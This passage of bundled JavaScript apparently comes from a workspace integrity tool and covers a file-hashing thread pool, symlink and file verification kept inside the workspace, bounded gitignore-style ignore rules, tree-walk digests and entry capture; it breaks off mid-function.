function kernelUrl() {
    return __webpack_require__.ab + "hash-kernel.mjs";
}
const live = new Set();
const idle = [];
const idleTimers = new Map();
/** Tasks that asked for more threads than they got, oldest first. */
const hungry = [];
/** Set to 1 by each thread once its kernel has loaded: readable while the main thread is busy,
 * when no 'online' event could have been delivered yet. */
const readyFlags = new Map();
/**
 * At most one thread per core, less the one the main thread uses while it hashes: more only
 * share the cores, each with its own start-up. A task that asks for more than the cores
 * (`--jobs 8` where they are undercounted, as under a CPU quota) may raise it for itself.
 */
function cap(asked = 1) {
    const cores = external_node_os_default().availableParallelism();
    return Math.max(1, asked > cores ? asked : cores - (mainHashing ? 1 : 0));
}
/** Whether the main thread hashes for a pool now (hash-pool.ts): it then uses a core itself. */
let mainHashing = false;
function isMainThreadHashing() {
    return mainHashing;
}
/** The main thread starts or stops hashing; a task left waiting may have its thread now. */
function mainThreadHashing(on) {
    mainHashing = on;
    while (!on && hungry.length > 0 && live.size < cap())
        feed(start());
}
function isReady(w) {
    const flag = readyFlags.get(w);
    return flag !== undefined && Atomics.load(flag, 0) === 1;
}
/** Threads that would take a task now without a start-up. */
function idleKernelThreads() {
    return idle.filter(isReady).length;
}
/** Threads started and loaded, idle or busy: work handed to them waits for no start-up. */
function readyKernelThreads() {
    return [...live].filter(isReady).length;
}
/** Threads using a core now: starting, or running a task (not waiting for one). */
function busyKernelThreads() {
    return live.size - idle.length;
}
/** Threads alive, busy or not (for tests and the bench). */
function liveKernelThreads() {
    return live.size;
}
function start() {
    const ready = new SharedArrayBuffer(4);
    const w = new external_node_worker_threads_.Worker(kernelUrl(), { workerData: { swrKernelThread: true, ready } });
    live.add(w);
    readyFlags.set(w, new Int32Array(ready));
    w.once('exit', () => {
        live.delete(w);
        readyFlags.delete(w);
        clearTimeout(idleTimers.get(w));
        idleTimers.delete(w);
        const at = idle.indexOf(w);
        if (at >= 0)
            idle.splice(at, 1);
        // A task still waiting for a thread must not wait for one that is gone.
        while (hungry.length > 0 && live.size < cap())
            feed(start());
    });
    return w;
}
/**
 * Start threads in the background until `count` are alive, for a caller with more hashing to
 * come (`add --from`): the work at hand runs inline meanwhile, and the next finds them waiting.
 */
function warmKernelThreads(count) {
    endWhenFree = false;
    while (live.size < Math.min(count, cap())) {
        const w = start();
        // A thread that fails to start is simply not there; its exit takes it out of the lists.
        w.on('error', () => undefined);
        park(w);
    }
}
/**
 * Set by endIdleKernelThreads until the next task: a thread busy then (hashing, or still starting
 * for a walk the main thread finished without it) ends as soon as it comes free.
 */
let endWhenFree = false;
/**
 * End every idle thread now (they would end on their own after IDLE_MS); busy ones end as they
 * come free, unless a task comes first.
 */
async function endIdleKernelThreads() {
    endWhenFree = true;
    const ending = idle.splice(0);
    for (const w of ending) {
        clearTimeout(idleTimers.get(w));
        idleTimers.delete(w);
    }
    await Promise.all(ending.map(w => w.terminate()));
}
/** A free thread: a waiting one (a ready one first), else a new one while under the cap. */
function take(asked) {
    const at = idle.findIndex(isReady);
    const w = at >= 0 ? idle.splice(at, 1)[0] : idle.pop();
    if (w) {
        clearTimeout(idleTimers.get(w));
        idleTimers.delete(w);
        w.ref();
        return w;
    }
    return live.size < cap(asked) ? start() : undefined;
}
function park(w) {
    w.unref();
    if (endWhenFree)
        return void w.terminate();
    idle.push(w);
    const timer = setTimeout(() => void w.terminate(), IDLE_MS);
    timer.unref();
    idleTimers.set(w, timer);
}
/** A thread came free: the oldest hungry task takes it, else it waits for the next task. */
function feed(w) {
    const task = hungry[0];
    if (!task)
        return park(w);
    if (--task.room === 0)
        hungry.shift();
    join(task, w);
}
function settle(task) {
    if (task.running > 0)
        return;
    // No thread runs it and none may join: the work is done (a joiner found it done, or did it).
    const at = hungry.indexOf(task);
    if (at >= 0)
        hungry.splice(at, 1);
    if (!task.failed)
        task.resolve();
}
/**
 * One thread runs the task: the kernel posts any number of messages, then 'done'. A thread that
 * fails or exits mid-task fails the task and is not given back.
 */
function join(task, w) {
    task.running++;
    const stop = () => {
        w.off('message', onMsg);
        w.off('error', onError);
        w.off('exit', onExit);
        task.running--;
    };
    const fail = (err) => {
        stop();
        if (!task.failed) {
            task.failed = true;
            const at = hungry.indexOf(task);
            if (at >= 0)
                hungry.splice(at, 1);
            task.reject(err);
        }
    };
    const onMsg = (m) => {
        if (m !== 'done') {
            if (!task.failed)
                task.onMessage(m);
            return;
        }
        stop();
        settle(task);
        feed(w);
    };
    const onError = (err) => {
        fail(err);
        void w.terminate();
    };
    const onExit = (code) => fail(new Error(`kernel thread exited with code ${code}`));
    w.on('message', onMsg);
    w.on('error', onError);
    w.on('exit', onExit);
    try {
        w.postMessage(task.message);
    }
    catch (err) {
        // A task that cannot be sent (a bug: data that does not clone) fails; the thread, untouched,
        // waits for the next one instead of holding the process open.
        fail(err);
        park(w);
    }
}
/**
 * Run `message` on up to `count` threads (they share its work through a counter in the task);
 * `onMessage` receives every message but the closing 'done'. Resolves when the work is done.
 */
function onKernelThreads(message, count, onMessage) {
    endWhenFree = false;
    return new Promise((resolve, reject) => {
        const task = {
            message,
            onMessage,
            room: Math.max(1, count),
            running: 0,
            resolve,
            reject,
            failed: false
        };
        const asked = task.room;
        for (let w = take(asked); w !== undefined; w = task.room > 0 ? take(asked) : undefined) {
            task.room--;
            join(task, w);
        }
        if (task.room > 0)
            hungry.push(task);
    });
}

;// CONCATENATED MODULE: ./src/core/walk/hash-pool.ts
/**
 * Hashing many files at once. Work that would take the main thread a moment is hashed inline;
 * bigger work goes to the kernel threads (one per core), each claiming the next job from a shared
 * counter, largest first, so a 2 GB blob and 60,000 small files keep both cores busy to the end.
 */




/** A file above this many bytes is never hashed inline when threads may be had. */
const INLINE_BYTES = 48 * 1024 * 1024;
/**
 * What inline hashing costs on the main thread, measured here: ~45 us to open, read and close a
 * small file, ~1 ms per MB of content. A thread that must first start costs 60-110 ms; one
 * already waiting costs a message.
 */
function inlineMs(jobs, total) {
    return jobs.length * 0.045 + total / 1e6;
}
const WORTH_STARTING_MS = 100;
const WORTH_WAKING_MS = 10;
function inline(jobs, total, cores) {
    if (cores <= 1)
        return true;
    // One big file is never hashed in one go: the pool hashes it, on a thread or on the main
    // thread in steps, so the event loop keeps timers (the lock's) and the walks' messages served.
    if (jobs.some(j => j.cost >= INLINE_BYTES))
        return false;
    const worth = readyKernelThreads() > 0 ? WORTH_WAKING_MS : WORTH_STARTING_MS;
    return inlineMs(jobs, total) < worth;
}
/** Hash every job; results are in job order. */
async function hashAll(jobs, opts = {}) {
    const total = jobs.reduce((s, j) => s + j.cost, 0);
    const cores = opts.jobs ?? external_node_os_default().availableParallelism();
    if (opts.batch && cores > 1)
        warmKernelThreads(Math.min(cores, 32));
    if (inline(jobs, total, cores)) {
        let done = 0;
        return jobs.map(j => {
            const r = runJob(j.abs, j.how);
            done += j.cost;
            opts.onProgress?.(done, total);
            return r;
        });
    }
    const threads = Math.max(1, Math.min(cores, opts.maxWorkers ?? 32, 32, jobs.length));
    const order = jobs.map((_, i) => i).sort((a, b) => (jobs[b]?.cost ?? 0) - (jobs[a]?.cost ?? 0));
    const task = {
        role: 'hash',
        paths: order.map(i => jobs[i]?.abs ?? ''),
        hows: order.map(i => jobs[i]?.how ?? 'full'),
        counter: new SharedArrayBuffer(4)
    };
    const results = new Array(jobs.length);
    let done = 0;
    let count = 0;
    // While no thread is up yet, the main thread is one of the workers: the largest file starts
    // hashing now instead of after a thread's 60-110 ms start (the main thread is otherwise idle
    // during a check: the tree walks run on threads). What it has not claimed when a thread comes
    // up goes to that thread, so small files do not wait behind a blob; the pool counts the main
    // thread as a core meanwhile, so that thread is the one a tree walk takes next, not one more.
    // A rest worth less than a thread's start (a blob's head/tail, a few small files) follows the
    // largest on the main thread: no thread starts for it, and the blob's reads may go ahead on
    // the idle core.
    const mainJoins = !isMainThreadHashing() && readyKernelThreads() === 0;
    const rest = order.slice(1).map(i => jobs[i]);
    const restWorthAThread = inlineMs(rest, total - (jobs[order[0] ?? 0]?.cost ?? 0)) >= WORTH_STARTING_MS;
    const onThreads = !mainJoins ? threads : restWorthAThread ? Math.max(threads - 1, 1) : 0;
    let allIn = () => undefined;
    const complete = new Promise(resolve => (allIn = resolve));
    const take = (batch) => {
        for (const [k, r] of batch) {
            const original = order[k] ?? 0;
            results[original] = r;
            done += jobs[original]?.cost ?? 0;
            if (++count === jobs.length)
                allIn();
        }
        opts.onProgress?.(done, total);
    };
    const onMain = mainJoins ? hashOnMain(task, take) : Promise.resolve();
    const onPool = onThreads > 0
        ? onKernelThreads(task, onThreads, m => take(m))
        : Promise.resolve();
    // Every result in is the end of the threads' part, even while a thread that came up too late
    // to claim anything is still starting; a failure before that is the caller's. The main thread's
    // part ends when it has let go of its core, so the next pool sees it free.
    onPool.catch(() => undefined);
    await Promise.all([onMain, Promise.race([complete, onPool])]);
    return results;
}
/** The longest the main thread hashes before it lets its event loop run. */
const TURN_MS = 2;
// The main thread takes part in one pool at a time (isMainThreadHashing), with its own buffer.
const mainBuffer = Buffer.allocUnsafe(MIB);
/**
 * Claim jobs from the task's counter, as a kernel thread does, and hash them on the main thread
 * one read at a time, letting the event loop run between reads (timers such as the lock's,
 * signals, and the walk threads' messages wait a few milliseconds at most).
 */
async function hashOnMain(task, take) {
    mainThreadHashing(true);
    let since = performance.now();
    const breathe = async () => {
        if (performance.now() - since < TURN_MS)
            return;
        await (0,promises_.setImmediate)();
        since = performance.now();
    };
    try {
        const next = new Int32Array(task.counter);
        for (;;) {
            const k = Atomics.add(next, 0, 1);
            if (k >= task.paths.length)
                return;
            take([[k, await mainJob(task.paths[k] ?? '', task.hows[k] ?? 'full', breathe)]]);
            await breathe();
        }
    }
    finally {
        mainThreadHashing(false);
    }
}
/** A second buffer for reads ahead, made the first time one is wanted. */
let aheadBuffer;
const secondBuffer = () => (aheadBuffer ??= Buffer.allocUnsafe(MIB));
/** The cores, read once: asked after every chunk, it was a system call each time. */
let coreCount;
/** Whether a core is left over for a read ahead: none is while kernel threads work. */
function coreToSpare() {
    coreCount ??= external_node_os_default().availableParallelism();
    return coreCount - 1 - busyKernelThreads() > 0;
}
/**
 * One job on the main thread, a chunk per turn, in the main thread's own buffers (a head/tail
 * too: the kernel's buffer would be a second megabyte to touch); errors come back as their code
 * (as runJob).
 */
async function mainJob(abs, how, turn) {
    try {
        if (how === 'headtail')
            return hash_kernel_hashHeadTail(abs, mainBuffer);
        return await hashFileAhead(abs, how === 'stamped', mainBuffer, secondBuffer, coreToSpare, turn);
    }
    catch (err) {
        const code = err?.code;
        return { error: typeof code === 'string' ? code : 'EIO' };
    }
}
/** One file's full hash; a large one is hashed by the pool (on a thread, or on the main thread
 * in steps), so the event loop, lock refresh and signals included, stays live meanwhile. */
async function hashOne(abs, size) {
    const [r] = await hashAll([{ abs, how: 'full', cost: size }], { maxWorkers: 1 });
    return r;
}

;// CONCATENATED MODULE: ./src/core/verify/verifier.ts

function isPending(i) {
    return 'judge' in i;
}
/**
 * 1500000 → "1,500,000". By hand, not Intl.NumberFormat: creating a formatter initialises ICU,
 * measured at ~25 ms, a tenth of a whole check of a small workspace.
 */
function num(n) {
    if (!Number.isSafeInteger(n))
        return String(n);
    return String(n).replace(/\B(?=(\d{3})+(?!\d))/g, ',');
}
/** Signed difference, "+12" / "-1,500,000". */
function delta(found, wanted) {
    const d = found - wanted;
    return `${d > 0 ? '+' : '-'}${num(Math.abs(d))}`;
}
/** First 12 hex digits: enough to tell hashes apart in a report, never the whole secret-ish value. */
function verifier_short(hash) {
    return hash.slice(0, 12);
}
function finding(e, status, reason, detail, recorded, found, cached = false) {
    return {
        id: e.id,
        kind: e.kind,
        path: e.path,
        tier: e.tier,
        status,
        reason,
        detail,
        recorded,
        found,
        cached
    };
}
/**
 * The entry on disk when it exists with the wanted type; otherwise the MISSING finding (absent, or
 * a parent leading outside the workspace) or the TYPE finding every verifier starts with.
 */
function locateAs(e, ctx, recorded, noun, is, want) {
    const loc = locate_entry_locateInside(ctx.workspace, e.path);
    if (loc.state !== 'present') {
        const reason = loc.state === 'escapes' ? 'escapes' : 'absent';
        return finding(e, 'MISSING', reason, `${noun} ${loc.why}`, recorded, { type: 'none' });
    }
    if (!is(loc.st)) {
        const t = typeName(loc.st);
        return finding(e, 'TYPE', 'type', `is a ${t} (want ${want})`, recorded, { type: t });
    }
    return { abs: loc.abs, st: loc.st };
}
function isFinding(x) {
    return 'status' in x;
}

;// CONCATENATED MODULE: ./src/core/verify/link.ts
/**
 * `link` entries: a symlink with an exact target. Inside the workspace the chain is followed one
 * hop at a time (each hop contained), so a dangling link is BROKENLNK; a target outside the
 * workspace is never followed, and is reported as such rather than as dangling.
 */





const MAX_HOPS = 40;
function verifyLink(e, ctx) {
    const want = e.expect.target;
    const recorded = { type: 'symlink', target: want };
    const loc = locateAs(e, ctx, recorded, 'link', st => st.isSymbolicLink(), `a symlink to ${want}`);
    if (isFinding(loc))
        return loc;
    const target = external_node_fs_default().readlinkSync(loc.abs);
    const found = { type: 'symlink', target };
    const end = followInside(ctx.workspace, loc.abs, target);
    if (target !== want) {
        const where = end.state === 'outside' ? ', outside the workspace' : '';
        return finding(e, 'CORRUPT', 'target', `points to ${target}${where} (want ${want})`, recorded, found);
    }
    switch (end.state) {
        case 'ok':
            return finding(e, 'OK', 'ok', `-> ${target}`, recorded, found);
        case 'outside':
            return finding(e, 'OK', 'outside', `-> ${target} (outside the workspace, not followed)`, recorded, found);
        case 'dangling':
            return finding(e, 'BROKENLNK', 'dangling', `-> ${target}: ${end.why}`, recorded, found);
    }
}
/** Follow `target` from the link at `abs`, one contained hop at a time. */
function followInside(workspace, abs, target) {
    let from = abs;
    let to = target;
    for (let hop = 0; hop < MAX_HOPS; hop++) {
        const next = external_node_path_default().resolve(external_node_path_default().dirname(from), to);
        if (!inside_isInside(workspace, next))
            return { state: 'outside' };
        const loc = locate_entry_locateInside(workspace, external_node_path_default().relative(workspace, next) || '.');
        if (loc.state === 'escapes')
            return { state: 'outside' };
        if (loc.state === 'missing')
            return { state: 'dangling', why: `${external_node_path_default().relative(workspace, next)} ${loc.why}` };
        if (!loc.st.isSymbolicLink())
            return { state: 'ok' };
        from = next;
        to = external_node_fs_default().readlinkSync(next);
    }
    return { state: 'dangling', why: `more than ${MAX_HOPS} links in a chain (a loop?)` };
}

// EXTERNAL MODULE: ./node_modules/ignore/index.js
var ignore = __webpack_require__(70298);
var ignore_default = /*#__PURE__*/__webpack_require__.n(ignore);
;// CONCATENATED MODULE: ./src/core/walk/ignore-rules.ts
/**
 * A tree's ignore rules, read with .gitignore semantics by the `ignore` package: a rule without a
 * slash matches a name at any depth, one with a slash is anchored to the tree, a trailing slash
 * matches directories only, `!` re-includes (never below an ignored directory: the walk does not
 * enter it), `**` spans directories, `#` starts a comment and `\` escapes. Matching is
 * case-sensitive, as on Linux.
 *
 * Rules are manifest strings (hostile until the gate passes, and `check` reads unsigned
 * manifests), and a glob's match time grows with what it may backtrack over, so a rule set is
 * bounded: at most MAX_GLOB_RULES globs of MAX_RULE_CHARS characters, MAX_WILDCARDS wildcards
 * each and one `**` (two let a match backtrack over every pair of directories: a 2,000-level
 * chain took seconds per rule; within the bounds the worst rule measured under a second for it). Plain names (most rules: node_modules, .git) go through a Set
 * and cost nothing; the parallel and native walks take only those and step aside for globs.
 */


const MAX_GLOB_RULES = 16;
const MAX_RULE_CHARS = 128;
const MAX_WILDCARDS = 8;
/** A rule that is exactly one name: matched by equality, and by `find -name` in the native walk. */
function isPlainName(rule) {
    // Leading "#" is a comment and trailing blanks are dropped in gitignore: not plain names.
    return /^[^/*?[\]{}!\\#]+$/.test(rule) && rule.trim() === rule;
}
/** Why one glob rule is too complex to match in bounded time, or undefined. */
function ignore_rules_ruleProblem(rule) {
    if (isPlainName(rule))
        return undefined;
    if (rule.length > MAX_RULE_CHARS)
        return `is longer than ${MAX_RULE_CHARS} characters`;
    const wildcards = rule.match(/[*?[]/g)?.length ?? 0;
    if (wildcards > MAX_WILDCARDS)
        return `has more than ${MAX_WILDCARDS} wildcards`;
    // Two "**" (a leading "**/" counts) let a match backtrack over every pair of directories.
    if ((rule.match(/\*\*/g)?.length ?? 0) > 1)
        return 'has more than one "**"';
    return undefined;
}
/** Every problem of a rule set, as [index, text]. */
function ruleSetProblems(rules) {
    const out = [];
    rules.forEach((r, i) => {
        const p = ignore_rules_ruleProblem(r);
        if (p)
            out.push([i, p]);
    });
    const globs = rules.flatMap((r, i) => (isPlainName(r) ? [] : [i]));
    const over = globs[MAX_GLOB_RULES];
    if (over !== undefined)
        out.push([over, `is one of ${globs.length} glob rules (at most ${MAX_GLOB_RULES})`]);
    return out;
}
/** True when the rules are all plain names (the fast walks' case). */
function allPlainNames(rules) {
    return rules.every(isPlainName);
}
/**
 * The matcher: `rel` is the path relative to the tree, `name` its last segment, `isDir` whether it
 * is a directory (trailing-slash rules match only those). Throws on a rule set over the bounds.
 */
function ignore_rules_ignoreMatcher(rules) {
    if (rules.length === 0)
        return () => false;
    const problem = ruleSetProblems(rules)[0];
    if (problem)
        throw new errors_UsageError(`ignore rule ${JSON.stringify(rules[problem[0]])} ${problem[1]}`);
    if (allPlainNames(rules)) {
        const names = new Set(rules);
        return (_rel, name) => names.has(name);
    }
    // With a negation anywhere, order matters: every rule goes to the gitignore matcher.
    const negated = rules.some(r => r.startsWith('!'));
    const names = new Set(negated ? [] : rules.filter(isPlainName));
    const ig = ignore_default()({ ignorecase: false }).add(rules.filter(r => !names.has(r)));
    return (rel, name, isDir = false) => names.has(name) || ig.ignores(isDir ? `${rel}/` : rel);
}

;// CONCATENATED MODULE: ./src/core/walk/walk.ts
/**
 * The tree walk's records and the digests defined over them; the order and the lines are
 * walk-format.mjs's. Symlinks are recorded, never followed. Names are bytes (see byte-names.mjs):
 * lines hold them as the file system does, so a name that is not UTF-8 is walked, digested and
 * indexed like any other. Which walker walks a tree is walk-strategy.ts's choice.
 */






/** The incremental-cache identity of a walked entry: dev:ino:mtime_ns:ctime_ns. */
function ident(r) {
    return identText(r.dev, r.ino, r.mtimeNs, r.ctimeNs);
}

function walk_metaLine(r) {
    return metaLine(r.rel, r.type, r.size, r.mode);
}
/** Feed digest lines to a hash: as UTF-8, or as the name bytes they carry when not plain text. */
function updateLines(h, text) {
    h.update(text.isWellFormed() ? text : bytesOf(text));
}
/** Hash one line per record, in chunks (one hash update per record costs more than the hash). */
function digestLines(records, line) {
    const h = (0,external_node_crypto_.createHash)('sha256');
    const CHUNK = 2048;
    for (let i = 0; i < records.length; i += CHUNK) {
        let text = '';
        const end = Math.min(records.length, i + CHUNK);
        for (let k = i; k < end; k++)
            text += line(records[k], k);
        updateLines(h, text);
    }
    return h.digest('hex');
}
/** The metadata digest: relpath, type, size and mode of every entry in walk order. */
function metaDigestOf(records) {
    return digestLines(records, walk_metaLine);
}
/** One stamp line: path and identity. */
function walk_stampLine(r) {
    return stampLine(r.rel, r.type, r.dev, r.ino, r.mtimeNs, r.ctimeNs);
}
/**
 * The cache stamp: every entry's path and identity (dev, inode, mtime_ns, ctime_ns). Any change of
 * type, size or mode also changes ctime, so the stamp vouches for the metadata digest too.
 */
function stampOf(records) {
    return digestLines(records, walk_stampLine);
}
/** The record of one lstat'ed entry. */
function recordOf(rel, type, st) {
    return {
        rel,
        type,
        size: type === TYPE.file ? Number(st.size) : 0,
        mode: Number(st.mode & 4095n),
        dev: st.dev,
        ino: st.ino,
        mtimeNs: st.mtimeNs,
        ctimeNs: st.ctimeNs
    };
}
/**
 * Walk the tree at `root` (already known to be a real directory) in walk-format.mjs's order,
 * collecting one record per entry; digests are computed afterwards, only those the caller needs.
 * `exclude` holds absolute paths of swr's own files (state directory, manifest, tree indexes)
 * that are never part of a tree.
 */
function walkTree(root, ignore, exclude = new Set()) {
    const records = [];
    const unreadable = [];
    let files = 0;
    const rules = { exclude, ignored: ignore_rules_ignoreMatcher(ignore) };
    visitTree(root, '', rules, (_abs, rel, type, st) => {
        records.push(recordOf(rel, type, st));
        if (type !== TYPE.dir)
            files++;
    }, unreadable);
    return { records, files, unreadable };
}
/** The content digest, given each file's sha256 and each link's target (by record index). */
function contentDigest(records, extra) {
    return digestLines(records, (r, i) => contentLine(metaFields(r.rel, r.type, r.size, r.mode), extra[i] ?? ''));
}
/** Link targets for the link records (readlink never follows). */
function linkTargets(root, records) {
    return records.map(r => {
        if (r.type !== TYPE.link)
            return undefined;
        try {
            return readTarget(external_node_path_default().join(root, r.rel));
        }
        catch {
            return '';
        }
    });
}
/** A walk whose digests are computed only if and when something reads them. */
function lazyDigests(walk, knownMeta) {
    let meta;
    let stamp;
    // Getters, not a copy: a parallel walk's records are unpacked only when something reads them.
    return {
        get records() {
            return walk.records;
        },
        files: walk.files,
        unreadable: walk.unreadable,
        get shas() {
            return walk.shas;
        },
        pre: walk.pre,
        get metaDigest() {
            meta ??= walk.pre?.meta ?? knownMeta?.() ?? metaDigestOf(walk.records);
            return meta;
        },
        get stamp() {
            stamp ??= walk.pre?.stamp ?? stampOf(walk.records);
            return stamp;
        }
    };
}
/**
 * The top level's names in walk order, typed from the directory listing (the file system's d_type;
 * Node falls back to lstat where it is unknown). Undefined when the root cannot be listed.
 */
function listTop(root, ignore, exclude) {
    let entries;
    try {
        entries = readEntries(root);
    }
    catch {
        return undefined;
    }
    const ignored = ignore_rules_ignoreMatcher(ignore);
    return entries
        .map(d => ({ rel: d.name, dir: d.dir }))
        .filter(t => !ignored(t.rel, t.rel, t.dir) && !exclude.has(`${root}/${t.rel}`))
        .sort((a, b) => compareNames(a.rel, b.rel));
}
/** A file's entry in the per-file cache: its identity, size and sha256. */
function cacheValue(r, sha256) {
    return cacheText(ident(r), r.size, sha256);
}

;// CONCATENATED MODULE: ./src/core/walk/specials.ts
/**
 * Special files in trees: anything but a file, directory or symlink (devices, FIFOs, sockets).
 * The walk's lines give them a type letter and a mode only, so a device swapped for another of
 * the same mode (/dev/zero where /dev/null was) keeps every digest. What each one is, and for a
 * device its numbers, is recorded apart: as the tree index's extra field of the entry, and as a
 * digest over walk-format.mjs's special lines in the manifest (`expect.special_digest`, written
 * only when the tree holds a special file). The walkers never see device numbers: the few special
 * files are lstat'ed again by path, so neither the native walk nor the workers change.
 */





/** A device number's major and minor parts, as the platform packs them into st_rdev. */
function deviceNumbers(rdev) {
    if (process.platform === 'darwin' || process.platform.endsWith('bsd'))
        return [(rdev >> 24n) & 0xffn, rdev & 0xffffffn];
    // glibc's gnu_dev_major/minor: 12 bits of major and 20 of minor, split across the word.
    return [
        ((rdev >> 8n) & 0xfffn) | ((rdev >> 32n) & ~0xfffn),
        (rdev & 0xffn) | ((rdev >> 12n) & ~0xffn)
    ];
}
/** What a special file is: "char 1:3", "block 8:0", "fifo", "socket". */
function specialKind(st) {
    if (st.isCharacterDevice() || st.isBlockDevice()) {
        const [major, minor] = deviceNumbers(st.rdev);
        return `${st.isCharacterDevice() ? 'char' : 'block'} ${major}:${minor}`;
    }
    if (st.isFIFO())
        return 'fifo';
    if (st.isSocket())
        return 'socket';
    return 'other';
}
/**
 * The kind of each special record, by record index (undefined for the rest); a special file gone
 * since the walk is 'missing', which matches no recorded kind.
 */
function specialKinds(root, records) {
    return records.map(r => {
        if (r.type !== TYPE.other)
            return undefined;
        const st = external_node_fs_default().lstatSync(fsPath(`${root}/${r.rel}`), { bigint: true, throwIfNoEntry: false });
        return st ? specialKind(st) : 'missing';
    });
}
/** The digest of the special lines in walk order, or undefined when there is no special file. */
function specialDigest(records, kinds) {
    let text = '';
    records.forEach((r, i) => {
        const kind = kinds[i];
        if (kind !== undefined)
            text += specialLine(r.rel, kind);
    });
    if (text === '')
        return undefined;
    const h = (0,external_node_crypto_.createHash)('sha256');
    updateLines(h, text);
    return h.digest('hex');
}

;// CONCATENATED MODULE: ./src/core/capture/capture.ts
/**
 * Capturing an entry's expectations from disk, now: the healthy state becomes the truth later
 * checks compare with. Uses the same walk, hashing kernel and digests as the verifiers, so a
 * captured entry verifies by construction.
 */
















/** Files at least this large are tracked as blobs unless a kind is given. */
const capture_BLOB_THRESHOLD = 64 * 1024 * 1024;
/** Build and project files whose presence at a tree's root says what the tree is. */
const capture_PROJECT_MARKERS = [
    'package.json',
    'CMakeLists.txt',
    'go.mod',
    'Cargo.toml',
    'pyproject.toml',
    'setup.py',
    'Makefile',
    'pom.xml',
    'build.gradle',
    'Gemfile'
];
/** Markers whose presence at a tree's root makes a good sentinel. */
const MARKERS = [...capture_PROJECT_MARKERS, 'SKILL.md', 'README.md'];
/** An id for `rel` that matches the id rule and is not in `taken`. */
function deriveId(rel, taken) {
    const base = (rel === '.' ? 'workspace' : rel.split('/').slice(-2).join('-'))
        .replace(/[^A-Za-z0-9._-]+/g, '-')
        .replace(/^[.-]+/, '')
        .slice(0, 100) || 'entry';
    let id = base;
    for (let n = 2; taken.has(id); n++)
        id = `${base}-${n}`;
    return id;
}
/** The refusal of an id the manifest (or an earlier line of the same batch) already has. */
function capture_idTaken(id) {
    return new errors_UsageError(`entry "${id}" already exists in the manifest`);
}
async function capture_captureEntry(workspace, req, taken, opts = {}) {
    const pool = opts.pool ?? {};
    const loc = locate_entry_locateInside(workspace, req.path);
    if (loc.state !== 'present')
        throw new errors_UsageError(`${req.path}: cannot add: ${loc.why}`);
    const st = loc.st;
    const kind = req.kind ??
        (st.isSymbolicLink()
            ? 'link'
            : st.isDirectory()
                ? 'tree'
                : Number(st.size) >= capture_BLOB_THRESHOLD
                    ? 'blob'
                    : 'file');
    const mode = Number(st.mode & 4095n);
    const wrongType = (want) => new errors_UsageError(`${req.path}: cannot add as ${kind}: it is not ${want}`);
    if ((kind === 'file' || kind === 'blob') && !st.isFile())
        throw wrongType('a regular file');
    if (kind === 'tree' && !st.isDirectory())
        throw wrongType('a directory');
    if (kind === 'link' && !st.isSymbolicLink())
        throw wrongType('a symlink');
    const id = req.id ?? deriveId(req.path, taken);
    if (!ENTRY_ID.test(id))
        throw new errors_UsageError(`--id ${id}: must match ${ENTRY_ID.source}`);
    if (taken.has(id))
        throw capture_idTaken(id);
    // A secret is tier 0 by default (its loss is a credential loss) and says why it has no escrow.
    const secret = kind === 'file'
        ? secretReason({
            rel: req.path,
            abs: loc.abs,
            ...(opts.stateDir !== undefined ? { stateDir: opts.stateDir } : {})
        })
        : undefined;
    const note = req.note ?? (secret !== undefined ? secrets_SECRET_NOTE : undefined);
    const common = {
        id,
        path: req.path,
        tier: req.tier ?? (secret !== undefined ? 0 : defaultTier(kind, req.path, mode)),
        needs: req.needs ?? [],
        ...(req.restore !== undefined ? { restore: req.restore } : {}),
        ...(req.timeout_s !== undefined ? { timeout_s: req.timeout_s } : {}),
        ...(req.smoke !== undefined ? { smoke: req.smoke } : {}),
        ...(note !== undefined ? { note } : {})
    };
    switch (kind) {
        case 'file': {
            if (req.fullHash === false)
                throw new errors_UsageError(`${req.path}: --no-full-hash is for blobs (add it with --kind blob)`);
            // Off the main thread when large, so the event loop (lock refresh, signals) stays live.
            const d = await steadily(req.path, loc.abs, async () => {
                const r = await hashOne(loc.abs, Number(st.size));
                if ('error' in r)
                    throw new errors_UsageError(`${req.path}: cannot read (${r.error})`);
                return r;
            });
            return {
                entry: { ...common, kind, expect: { size: d.size, sha256: d.sha256, mode: mode_octal(d.mode) } }
            };
        }
        case 'blob': {
            if (req.fullHash === false) {
                const ht = await steadily(req.path, loc.abs, async () => hash_kernel_hashHeadTail(loc.abs));
                const expect = { size: ht.size, headtail: ht.sha256, mode: mode_octal(ht.mode) };
                return { entry: { ...common, kind, expect } };
            }
            const { ht, full } = await steadily(req.path, loc.abs, async () => {
                const ht = hash_kernel_hashHeadTail(loc.abs);
                const full = await hashOne(loc.abs, ht.size);
                if ('error' in full)
                    throw new errors_UsageError(`${req.path}: cannot read (${full.error})`);
                // Two sizes for one file mean it changed between the two reads: -1 matches no state.
                return { ht, full, size: full.size === ht.size ? ht.size : -1 };
            });
            return {
                entry: {
                    ...common,
                    kind,
                    expect: { size: ht.size, headtail: ht.sha256, sha256: full.sha256, mode: mode_octal(ht.mode) }
                }
            };
        }
        case 'link': {
            const target = external_node_fs_default().readlinkSync(loc.abs);
            // The link verifier's own walk: what it would call BROKENLNK is refused now, not recorded.
            const end = followInside(workspace, loc.abs, target);
            if (end.state === 'dangling')
                throw new errors_UsageError(`${req.path}: cannot add: the symlink -> ${shownName(target)} is broken (${shownName(end.why)}); add it once its target exists`);
            return { entry: { ...common, kind, expect: { target } } };
        }
        case 'tree':
            return captureTree(external_node_fs_default().realpathSync(loc.abs), req, common, pool, opts.exclude ?? new Set());
    }
}
/**
 * Capture several entries, three at a time: while the files of some hash on the kernel threads,
 * the main thread walks the next (one by one, the main thread waited for every hash). Ids are
 * derived first, in request order, so they never depend on timing; the results come back in
 * request order, and the error is that of the first request, in that order, that failed.
 */
async function captureEntries(workspace, reqs, taken, opts = {}) {
    const seen = new Set(taken);
    const named = reqs.map(req => {
        const id = req.id ?? deriveId(req.path, seen);
        const duplicate = seen.has(id);
        seen.add(id);
        return { req: { ...req, id }, duplicate };
    });
    const pool = { ...opts.pool, batch: reqs.length > 1 };
    const limit = (0,p_limit/* default */.A)(3);
    const pending = named.map(({ req, duplicate }) => limit(() => {
        if (duplicate)
            throw capture_idTaken(req.id);
        return capture_captureEntry(workspace, req, taken, { ...opts, pool });
    }));
    // Awaited in order below; a later failure must not surface as an unhandled rejection first.
    for (const p of pending)
        p.catch(() => undefined);
    const out = [];
    try {
        for (const p of pending)
            out.push(await p);
    }
    finally {
        limit.clearQueue();
    }
    return out;
}
/** Tries at capturing a file or tree that keeps changing while it is read, before refusing. */
const ATTEMPTS = 3;
/** What must not move while a file is hashed: a hash of no single state can never match. */
function sameState(a, b) {
    return (a !== undefined &&
        b !== undefined &&
